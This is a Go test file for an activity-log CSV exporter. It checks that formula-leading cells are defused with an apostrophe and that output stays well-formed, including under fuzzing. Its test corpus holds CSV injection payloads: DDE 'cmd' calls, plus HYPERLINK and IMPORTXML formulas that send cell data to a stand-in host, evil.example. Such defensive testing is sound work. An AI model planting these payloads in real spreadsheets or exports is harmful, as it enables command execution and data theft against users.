package export_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/require"

	"github.com/activitylog/activitylog"
	"github.com/activitylog/activitylog/export"
)

func TestFormulasAreDefused(t *testing.T) {
	t.Parallel()
	for _, lead := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠"} {
		for _, before := range []string{"", " ", "   ", "\u00a0", "\u3000", "\uFEFF", "\u200b", "'", `"`, ",", ";", "|", "\v", "\u0085",
			" ;\"' ", "\xff"} {
			got := cell(t, before+lead+"cmd|'/C calc'!A0")
			if want := "'" + before + lead + "cmd|'/C calc'!A0"; got != want {
				t.Errorf("got %q, want %q", got, want)
			}
		}
	}
}

// TestHarmlessCells keeps texts that only look alarming as they are.
func TestHarmlessCells(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"a=1+1", "Ana", "42", "'tis", `"quoted"`, "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Émile", "日本=1", "", " ", " lead", "trail ", ";", "''", "\u00a0x", "x\ty", "\x7f", "\\.", "{\"a\":1}", "\ufffd=1", "\xff"} {
		if got := cell(t, s); got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
}

// TestHostileCorpus keeps the number of cells whatever is in them.
func TestHostileCorpus(t *testing.T) {
	t.Parallel()
	for _, s := range []string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
		`+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, "\t=1+1", "\r\n=1+1", `",=1+1,"`, `"; =1+1`, "x\r\n=1+1\r\n", "＝1+1",
		`=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")`, "a,b\"c\nd\r\ne\rf", "\u202e=1", "\u2028=1+1", "0x1F", "\x1f=1",
	} {
		e := activitylog.Event{Org: s, Message: s, Actor: activitylog.Actor{ID: s, Name: s}, Metadata: map[string]any{s: s},
			Labels: map[string]string{s: s}, Targets: []activitylog.Target{{ID: s}, {ID: s}}}
		rows := records(t, write(t, nil, e))
		require.Len(t, rows, 2)
		require.Len(t, rows[1], len(rows[0]), "%q", s)
		for i, c := range rows[1] {
			if c != "" && strings.ContainsAny(c[:1], "=+-@\t\r\n\x00") {
				t.Errorf("%q: column %s begins with %q", s, rows[0][i], c[:1])
			}
		}
	}
}

func cell(t testing.TB, s string) string {
	t.Helper()
	rows := records(t, write(t, &export.CSVOptions{Columns: []string{"id", "message", "org"}}, activitylog.Event{Message: s}))
	require.Len(t, rows, 2)
	require.Len(t, rows[1], 3)
	return rows[1][1]
}

// original takes the apostrophe away, by the rule of the documentation: where the rest would be given one.
func original(t testing.TB, c string) string {
	if rest, ok := strings.CutPrefix(c, "'"); ok && cell(t, rest) != rest {
		return rest
	}
	return c
}

// leads tells whether s begins with a character of a formula, by other means than the code.
func leads(s string) bool {
	s = strings.TrimLeftFunc(s, func(r rune) bool {
		return r != '\t' && r != '\r' && r != '\n' && r != 0 && (unicode.IsSpace(r) || strings.ContainsRune(`,;|"`, r))
	})
	for _, lead := range []string{"=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠"} {
		if strings.HasPrefix(s, lead) {
			return true
		}
	}
	return false
}

func FuzzCSV(f *testing.F) {
	for _, s := range []string{"", "plain", "=1", "'=1", "''=1", `a"b`, "a,b", "x\r\ny", "\rx", " ;=1", "＝1", "\xff=1", "\xef\xbc", "-", `"`} {
		f.Add(s, s, int64(len(s)))
	}
	f.Fuzz(func(t *testing.T, a, b string, micros int64) {
		e := activitylog.Event{Org: a, Message: b, Metadata: map[string]any{a: b}, AI: &activitylog.AIUsage{CostMicros: &micros}}
		text := write(t, &export.CSVOptions{Columns: []string{"org", "message", "metadata", "cost", "project"}}, e, e)
		rows := records(t, text)
		require.Len(t, rows, 3)
		require.Equal(t, rows[1], rows[2])
		require.Len(t, rows[1], 5)
		for i, want := range []string{a, b} {
			if leads(rows[1][i]) {
				t.Errorf("%q became %q, which a spreadsheet may run", want, rows[1][i])
			}
			if got := original(t, rows[1][i]); got != want {
				t.Errorf("%q comes back as %q", want, got)
			}
		}
		std, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		require.NoError(t, err)
		for i, c := range rows[1] {
			if want := strings.ReplaceAll(c, "\r\n", "\n"); std[1][i] != want {
				t.Errorf("encoding/csv reads %q as %q", want, std[1][i])
			}
		}
	})
}
